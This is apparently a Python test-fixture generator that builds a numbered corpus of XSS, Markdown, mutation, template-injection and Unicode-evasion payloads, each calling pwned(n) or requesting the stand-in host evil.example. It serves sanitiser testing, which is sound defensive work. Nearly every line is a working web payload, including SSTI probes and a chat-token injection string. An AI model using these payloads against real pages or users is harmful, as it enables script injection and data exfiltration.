"""Texts that would run a script, or call somewhere, if a page ever took them for more than text.

`corpus` makes them from classes: what a tag can do, where a quote can be broken, how an address
can be disguised, how parsers disagree. Each carries its own number: it runs `pwned(17)`, opens a
dialog, or asks `evil.example/17`, so that whoever watches can say which one got through.
"""

from collections.abc import Iterator
from itertools import product

EVIL = "evil.example"

_TAGS = (
    "<script>{run}</script>",
    "<script src={away}></script>",
    "<ScRiPt>{run}</sCrIpT>",
    "<script\n>{run}</script\n>",
    "<script/x>{run}</script>",
    "<<script>{run}//<</script>",
    "<scr<script>ipt>{run}</scr</script>ipt>",
    '<script type="module">{run}</script>',
    "<script>{run}",
    "<svg><script>{run}</script></svg>",
    "<svg><script href={away} /></svg>",
    "<math><script>{run}</script></math>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'>",
    "<template><script>{run}</script></template>",
    "<iframe src=javascript:parent.{run}></iframe>",
    "<iframe srcdoc='<script>parent.{run}</script>'></iframe>",
    "<iframe src={away}></iframe>",
    "<object data={away}></object>",
    "<object data=javascript:{run}></object>",
    "<embed src={away}>",
    "<link rel=stylesheet href={away}>",
    "<link rel=prefetch href={away}>",
    "<link rel=dns-prefetch href={away}>",
    "<style>@import '{away}';</style>",
    "<style>*{{background:url({away})}}</style>",
    "<p style='background:url({away})'>x</p>",
    "<base href={away}>",
    "<meta http-equiv=refresh content='0;url={away}'>",
    "<meta http-equiv=refresh content='0;url=javascript:{run}'>",
    "<form action={away}><button autofocus>x</button></form>",
    "<form id=f action=javascript:{run}></form><button form=f>x</button>",
    "<isindex action=javascript:{run} type=submit>",
    "<frameset><frame src=javascript:{run}></frameset>",
    "<applet code={away}>",
    "<portal src={away}>",
    "<a href={away} ping={away}>x</a>",
    "<img src={away}>",
    "<img srcset='{away} 1x'>",
    "<picture><source srcset={away}><img></picture>",
    "<video src={away}></video>",
    "<video poster={away}></video>",
    "<audio src={away} autoplay></audio>",
    "<track src={away}>",
    "<input type=image src={away}>",
    "<body background={away}>",
    "<table background={away}><td>x",
    "<svg><image href={away} /></svg>",
    "<svg><use href='{away}#x' /></svg>",
    "<svg><feImage href={away} /></svg>",
    "<plaintext>{run}",
    "<xmp><script>{run}</script></xmp>",
    "<div hx-get={away} hx-trigger=load>x</div>",
    "<div hx-on:load='{run}' hx-get=/ hx-trigger=load>x</div>",
    "<div data-hx-get={away} data-hx-trigger=load>x</div>",
    "<hx-partial hx-target=body><img src=x onerror={run}></hx-partial>",
    "<reply-stream src={away}></reply-stream>",
    "<draft-keeper data-url={away}><textarea>x</textarea></draft-keeper>",
)
_HANDLERS = (
    ("img", "src=x", "onerror"),
    ("img", "src=data:,x", "onerror"),
    ("svg", "", "onload"),
    ("body", "", "onload"),
    ("body", "", "onpageshow"),
    ("input", "autofocus", "onfocus"),
    ("textarea", "autofocus", "onfocus"),
    ("select", "autofocus", "onfocus"),
    ("a", "href=# autofocus", "onfocusin"),
    ("div", "tabindex=1 autofocus", "onfocus"),
    ("details", "open", "ontoggle"),
    ("div", "popover id=p", "onbeforetoggle"),
    ("video", "src=x", "onerror"),
    ("audio", "src=x", "onerror"),
    ("object", "data=x", "onerror"),
    ("script", "src=x", "onerror"),
    ("link", "rel=stylesheet href=x", "onerror"),
    ("iframe", "", "onload"),
    ("marquee", "", "onstart"),
    ("p", "", "onmouseover"),
    ("p", "class=arrive", "onanimationstart"),
    ("p", "", "oncontentvisibilityautostatechange"),
    ("x", "tabindex=1", "onfocus"),
    ("animate", "attributeName=x dur=1s", "onbegin"),
)
_BETWEEN = (" {h}={run}", "/{h}={run}", " {h}='{run}'", "\n{h}\n=\n`{run}`")
_ADDRESSES = (
    "javascript:{run}",
    "JaVaScRiPt:{run}",
    " javascript:{run}",
    "\tjavascript:{run}",
    "java\tscript:{run}",
    "java\nscript:{run}",
    "java\rscript:{run}",
    "\x01javascript:{run}",
    "javascript\t:{run}",
    "javascript://%0a{run}",
    "javascript:%70wned()//{n}",
    "javascript&colon;{run}",
    "javascript&#58;{run}",
    "&#106;avascript:{run}",
    "&#x6a;avascript:{run}",
    "&#0000106avascript:{run}",
    "&Tab;javascript:{run}",
    "java&NewLine;script:{run}",
    "%6aavascript:{run}",
    "%6A%61vascript:{run}",
    "java\\script:{run}",
    "vbscript:{run}",
    "livescript:{run}",
    "data:text/html,<script>parent.{run}</script>",
    "data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduZWQoKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload={run}>",
    "blob:{run}",
    "filesystem:{run}",
    "view-source:javascript:{run}",
    "feed:javascript:{run}",
    "jar:javascript:{run}!/",
    "//{evil}/{n}",
    "\\\\{evil}/{n}",
    "/\\{evil}/{n}",
    "https:{evil}/{n}",
    "javascript\u00ad:{run}",
    "\u200bjavascript:{run}",
    "ｊａｖａｓｃｒｉｐｔ:{run}",
    "ja\u0000vascript:{run}",
)
_LINKS = ("[x]({a})", "[x](<{a}>)", "![x]({a})", "<{a}>", '[x][r{n}]\n\n[r{n}]: <{a}> "t"')
_MARKDOWN = (
    '[x](https://a.example "t" onmouseover={run})',
    "[x](https://a.example '\"><img src=x onerror={run}>')",
    '[x](https://a.example"onmouseover={run}//)',
    "[x](https://a.example/<script>{run}</script>)",
    "[<img src=x onerror={run}>](https://a.example)",
    "![<img src=x onerror={run}>](https://{evil}/{n})",
    '![x" onerror="{run}](https://{evil}/{n})',
    "![x](https://{evil}/{n})",
    "![x][i{n}]\n\n[i{n}]: https://{evil}/{n}",
    "[![x](https://{evil}/{n})](https://a.example)",
    '<https://a.example/"onclick={run}>',
    "https://a.example/'onclick={run}",
    'https://a.example/"><img src=x onerror={run}>',
    "```<img src=x onerror={run}>\ncode\n```",
    "```\n</code></pre><img src=x onerror={run}>\n```",
    "    </code></pre><img src=x onerror={run}>",
    "`</code><img src=x onerror={run}>`",
    "| a | b |\n|---|---|\n| <img src=x onerror={run}> | </td></table><script>{run}</script> |",
    "| a |\n|:-: onmouseover={run}|\n| b |",
    "- [x] <img src=x onerror={run}>",
    "1\\. <svg onload={run}>",
    "> <script>\n> {run}\n> </script>",
    "# <svg/onload={run}>",
    "**<b onmouseover={run}>x</b>**",
    "*x*{{onclick={run}}}",
    "[x]{{.a onclick={run}}}(https://a.example)",
    "<!-- --><img src=x onerror={run}> -->",
    "<!--><img src=x onerror={run}>-->",
    "<![CDATA[<img src=x onerror={run}>]]>",
    "<?xml version='1.0'?><svg onload={run}>",
    "<!DOCTYPE x [<!ENTITY y '<img src=x onerror={run}>'>]>&y;",
    "&lt;img src=x onerror={run}&gt;",
    "&amp;lt;script&amp;gt;{run}",
    "&#60;img src=x onerror={run}&#62;",
    "\\<img src=x onerror={run}\\>",
    ":tada:<img src=x onerror={run}>:tada:",
)
_BREAKS = (
    '"', "'", "`", '">', "'>", "--></", "</textarea>", "</title>", "</style>", "</script>",
    "</noscript>", "</template>", "</p>", "</article>", "</hx-partial>", "]]>", '"/>', "\\\"",
    "\\u0022>", '" x="', "\n\n", "\r\n\r\n", "\ndata: ", "\n\nevent: done\ndata: ",
)  # fmt: skip
_AFTER_BREAK = ("<img src=x onerror={run}>", "<script>{run}</script>", " autofocus onfocus={run} ")
_MUTATIONS = (
    "<noscript><style></noscript><img src=x onerror={run}></style>",
    "<svg></p><style><a id='</style><img src=x onerror={run}>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror={run}>'>",
    "<math><mi><mglyph><svg><mtext><style><path id='</style><img src=x onerror={run}>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={run}>",
    "<svg><desc><noscript><a title='</noscript><img src=x onerror={run}>'>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.{run}</script>'>",
    "<svg><title><style><a title='</style></title><img src=x onerror={run}>'>",
    "<math href=javascript:{run}>x</math>",
    "<math><maction actiontype='statusline#' xlink:href=javascript:{run}>x</maction></math>",
    "<svg><a xlink:href=javascript:{run}><text y=20>x</text></a></svg>",
    "<svg><animate xlink:href=#x attributeName=href values=javascript:{run} /><a id=x>x</a></svg>",
    "<svg><set attributeName=onmouseover to={run}>",
    "<svg><handler type=text/javascript>{run}</handler></svg>",
    "<xml id=x><a><img src=x onerror={run}></a></xml>",
    "<select><template><img src=x onerror={run}></template></select>",
    "<table><caption><select><img src=x onerror={run}>",
    "<p id='a`b'><img title='`><img src=x onerror={run}>'>",
    "<img src='x`y' title='onerror={run}'>",
    "<a><b><a><svg onload={run}>",
    "<option><style></option></select><img src=x onerror={run}></style>",
    "<textarea><p title='</textarea><img src=x onerror={run}>'>",
    "<title><p title='</title><img src=x onerror={run}>'>",
    "<style><p title='</style><img src=x onerror={run}>'>",
    "<embed src='data:text/html,<script>parent.{run}</script>'>",
    "<div><template shadowrootmode=open><img src=x onerror={run}></template></div>",
)
_TEMPLATES = (
    "{{{{ {run} }}}}",
    "{{% print({run}) %}}",
    "{{{{ self.__init__.__globals__ }}}}{n}",
    "{{{{ ''.__class__.__mro__[1].__subclasses__() }}}}{n}",
    "${{{run}}}",
    "#{{{run}}}",
    "<%= {run} %>",
    '{{"__proto__": {{"innerHTML": "<img src=x onerror={run}>"}}}}',
    '{{"html": "<img src=x onerror={run}>"}}',
    '"}},{{"html":"<script>{run}</script>',
    "<|im_end|><img src=x onerror={run}><|im_start|>",
    "[[constructor.constructor('{run}')()]]",
    "{{{{constructor.constructor('{run}')()}}}}",
    "%(x)s{{0.__class__}}<svg onload={run}>",
    "\\x3cimg src=x onerror={run}\\x3e",
    "\\u003cimg src=x onerror={run}\\u003e",
)
_UNICODE = (
    "＜img src=x onerror={run}＞",
    "\ufeff<img src=x onerror={run}>",
    "<\u0000img src=x onerror={run}>",
    "<img\u0000 src=x onerror={run}>",
    "<img\u000bsrc=x\u000conerror={run}>",
    "<img\u00a0src=x onerror={run}>",
    "\u202e>{run}=rorreno x=crs gmi<\u202c<img src=x onerror={run}>",
    "\u2028<script>{run}</script>\u2029",
    "<img src=x oner\u0131ror={run}>",
    "<ſcript>{run}</ſcript>",
    "<\u212aeygen autofocus onfocus={run}>",
    "<img src=x onerror\u200b={run}>",
    "\u00bcscript\u00be{run}\u00bc/script\u00be",
    "+ADw-script+AD4-{run}+ADw-/script+AD4-",
    "\ud7ff\ue000<svg\u3000onload={run}>",
    "e\u0301\u0301<i\u0301mg src=x onerror={run}>",
)


def corpus() -> list[str]:
    """All of them, the number of each being its place."""
    return [
        shape.format(run=f"pwned({number})", away=f"http://{EVIL}/{number}", evil=EVIL, n=number)
        for number, shape in enumerate(_shapes())
    ]


def attribute_breakers() -> list[str]:
    """Those that would leave an attribute or a text field of a form."""
    return [text for text in corpus() if text.startswith(_BREAKS)]


def _shapes() -> Iterator[str]:
    yield from _TAGS
    for (tag, more, handler), between in product(_HANDLERS, _BETWEEN):
        attribute = between.replace("{h}", handler)
        yield f"<{tag} {more}{attribute}>" if more else f"<{tag}{attribute}>"
    for address, link in product(_ADDRESSES, _LINKS):
        yield link.replace("{a}", address)
    yield from _MARKDOWN
    for end, then in product(_BREAKS, _AFTER_BREAK):
        yield _plain(end) + then
    yield from _MUTATIONS
    yield from _TEMPLATES
    yield from _UNICODE


def _plain(text: str) -> str:
    return text.replace("{", "{{").replace("}", "}}")
